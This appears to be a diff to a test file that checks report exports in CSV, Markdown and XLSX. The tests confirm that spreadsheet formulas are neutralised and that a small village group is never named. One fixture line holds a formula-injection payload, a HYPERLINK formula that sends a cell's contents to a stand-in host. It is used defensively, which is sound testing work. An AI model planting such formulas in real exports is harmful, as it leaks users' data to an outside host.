@@ -17,6 +17,7 @@ from ews.reports.model import Column, Params, Report, Table, neutral, to_csv, to
 
 FORMULA = '=HYPERLINK("http://x/?"&A1,"klik")'
 SMALL = "Kampung Kecil"  # a desa with 3 applicants: never named outside the office
+SHOWN = FORMULA.casefold() + " (not in the list)"  # free text is grouped case-folded
 
 
 @pytest.fixture
@@ -29,7 +30,7 @@ def villages(client, accounts, payload):
         assert resp.status_code == 201, resp.get_json()
     today = dt.date.today()
     return {"from": (today - dt.timedelta(days=7)).isoformat(),
-            "to": (today + dt.timedelta(days=1)).isoformat()}
+            "to": (today + dt.timedelta(days=2)).isoformat()}
 
 
 def _export(client, accounts, period, fmt):
@@ -45,14 +46,14 @@ def test_csv_export_neutralises_formulas_and_names_no_small_group(client, accoun
     with zipfile.ZipFile(io.BytesIO(_export(client, accounts, villages, "csv").data)) as zf:
         text = "".join(zf.read(name).decode() for name in zf.namelist())  # one CSV a table
     cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
-    assert "'" + FORMULA in cells
+    assert "'" + SHOWN in cells
     assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
     assert SMALL not in text
 
 
 def test_markdown_export_neutralises_formulas(client, accounts, villages):
     text = _export(client, accounts, villages, "md").get_data(as_text=True)
-    assert "| '" + FORMULA.replace("|", "\\|") + " |" in text
+    assert "| '" + SHOWN.replace("|", "\\|") + " |" in text
     assert "| =" not in text and SMALL not in text
 
 
@@ -61,7 +62,7 @@ def test_xlsx_export_stores_text_never_a_formula(client, accounts, villages):
 
     book = load_workbook(io.BytesIO(_export(client, accounts, villages, "xlsx").data))
     cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
-    assert [c.data_type for c in cells if c.value == FORMULA] == ["s"]
+    assert [c.data_type for c in cells if c.value == SHOWN] == ["s"]
     assert not [c for c in cells if c.data_type == "f"]
     assert SMALL not in {c.value for c in cells}
 
